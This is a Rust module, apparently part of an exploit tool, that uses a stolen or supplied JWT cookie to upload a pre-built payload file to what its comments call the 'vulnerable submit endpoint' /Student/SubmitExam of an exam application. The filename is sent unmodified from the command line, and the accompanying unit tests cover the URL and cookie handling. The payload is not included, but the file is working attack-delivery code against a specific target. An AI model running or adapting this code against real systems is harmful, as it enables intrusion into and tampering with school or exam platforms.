// API client module: contains a small blocking HTTP client that delivers
// a pre-built payload to the target's submit endpoint. It is intentionally
// small and synchronous since the whole tool is one request and one report.

use anyhow::{Context, Result};
use reqwest::blocking::{multipart, Client};
use reqwest::header::{HeaderMap, HeaderValue, COOKIE};
use std::path::Path;

/// Simple API client that holds a reqwest blocking client, the base URL
/// of the target application and the JWT token that authenticates the
/// request through the `access_token` cookie.
pub struct ApiClient {
    client: Client,
    base_url: String,
    token: String,
}

/// Raw outcome of the submit call. The body is reported verbatim;
/// nothing in it is parsed or classified beyond the status code.
#[derive(Debug)]
pub struct ExamResponse {
    pub status: u16,
    pub body: String,
}

impl ApiClient {
    /// Create an ApiClient for the given target and token. A trailing
    /// slash on the base URL is tolerated.
    pub fn new(base_url: &str, token: &str) -> Result<Self> {
        let client = Client::builder()
            .build()
            .context("Failed to build HTTP client")?;
        Ok(ApiClient {
            client,
            base_url: base_url.trim_end_matches('/').to_string(),
            token: token.to_string(),
        })
    }

    /// Full URL of the vulnerable submit endpoint.
    pub fn submit_url(&self) -> String {
        format!("{}/Student/SubmitExam", &self.base_url)
    }

    /// Helper to build the Cookie header carrying the token. The token
    /// is passed through unmodified.
    fn cookie_headers(&self) -> Result<HeaderMap> {
        let mut headers = HeaderMap::new();
        let val = format!("access_token={}", &self.token);
        let val = HeaderValue::from_str(&val).context("Token is not a valid header value")?;
        headers.insert(COOKIE, val);
        Ok(headers)
    }

    /// Upload the payload file as the `file` part of a multipart form,
    /// alongside the `examId` form field, and return whatever the server
    /// answers. The file bytes are attached as-is with an
    /// `application/octet-stream` mime type; this tool never looks
    /// inside the payload. The multipart filename is the path string
    /// exactly as given on the command line.
    pub fn submit_exam(&self, exam_id: i64, payload_path: &Path) -> Result<ExamResponse> {
        let bytes = std::fs::read(payload_path)
            .with_context(|| format!("Failed to read payload file {}", payload_path.display()))?;
        let file_name = payload_path.display().to_string();

        let part = multipart::Part::bytes(bytes)
            .file_name(file_name)
            .mime_str("application/octet-stream")
            .context("Failed to set payload mime type")?;
        let form = multipart::Form::new()
            .part("file", part)
            .text("examId", exam_id.to_string());

        let res = self
            .client
            .post(self.submit_url())
            .headers(self.cookie_headers()?)
            .multipart(form)
            .send()
            .context("Failed to send submit request")?;

        let status = res.status().as_u16();
        let body = res.text().unwrap_or_else(|_| "".into());
        Ok(ExamResponse { status, body })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn submit_url_joins_endpoint_path() {
        let api = ApiClient::new("http://localhost:5000", "t").unwrap();
        assert_eq!(api.submit_url(), "http://localhost:5000/Student/SubmitExam");
    }

    #[test]
    fn submit_url_tolerates_trailing_slash() {
        let api = ApiClient::new("http://localhost:5000/", "t").unwrap();
        assert_eq!(api.submit_url(), "http://localhost:5000/Student/SubmitExam");
    }

    #[test]
    fn cookie_header_carries_token_verbatim() {
        let api = ApiClient::new("http://localhost:5000", "abc.def.ghi").unwrap();
        let headers = api.cookie_headers().unwrap();
        assert_eq!(headers.get(COOKIE).unwrap(), "access_token=abc.def.ghi");
    }

    #[test]
    fn cookie_header_rejects_control_characters() {
        let api = ApiClient::new("http://localhost:5000", "bad\ntoken").unwrap();
        assert!(api.cookie_headers().is_err());
    }
}
